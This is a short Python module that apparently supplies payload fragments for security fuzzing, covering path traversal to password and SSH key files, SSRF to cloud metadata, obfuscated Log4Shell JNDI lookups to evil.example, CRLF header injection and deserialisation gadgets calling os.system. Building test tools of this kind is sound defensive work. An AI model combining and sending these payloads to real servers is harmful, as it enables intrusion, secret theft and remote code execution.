"""Pieces of what makes a server open, fetch or build something that its author never meant."""

from __future__ import annotations

from collections.abc import Sequence
from typing import Final

Pieces = Sequence[Sequence[str]]

PATHS: Final[Sequence[Pieces]] = (
    (
        ("../../../../", "..\\..\\..\\", "....//....//....//", "/var/www/../../", "file:///"),
        ("etc/passwd", "etc/shadow", "windows/win.ini", "proc/self/environ", "root/.ssh/id_rsa"),
        ("", "\x00.png", "?x"),
    ),
)
ADDRESSES: Final[Sequence[Pieces]] = (
    (
        ("http://", "https://", "gopher://"),
        ("169.254.169.254", "127.0.0.1", "localhost", "[::1]", "0x7f000001", "2130706433", "10.0.0.5"),
        ("/latest/meta-data/", ":6379/", "/"),
    ),
)
JAVA: Final[Sequence[Pieces]] = (
    (
        ("${jndi:", "${${lower:j}ndi:", "${${::-j}${::-n}di:"),
        ("ldap://", "rmi://", "dns://"),
        ("evil.example/a}", "127.0.0.1:1389/x}"),
    ),
)
LINES: Final[Sequence[Pieces]] = (
    (
        ("x", ""),
        ("\r\n", "\n"),
        ("Set-Cookie: admin=1", "Location: http://evil.example", "Content-Length: 0\r\n\r\nHTTP/1.1 200 OK"),
    ),
)
OBJECTS: Final[Sequence[Pieces]] = (
    (("rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA", "rO0ABXQAAQ"), ("", "==")),
    (('O:8:"stdClass":1:{', 'a:1:{i:0;O:3:"Foo":0:{}'), ('s:1:"a";i:1;}', "}")),
    (("!!python/object/apply:", "!!python/object/new:"), ("os.system", "subprocess.Popen"), (" ['id']", " [id]")),
)

LOOKUPS: Final = {
    "paths": PATHS,
    "addresses": ADDRESSES,
    "Java lookups": JAVA,
    "header lines": LINES,
    "serialised objects": OBJECTS,
}
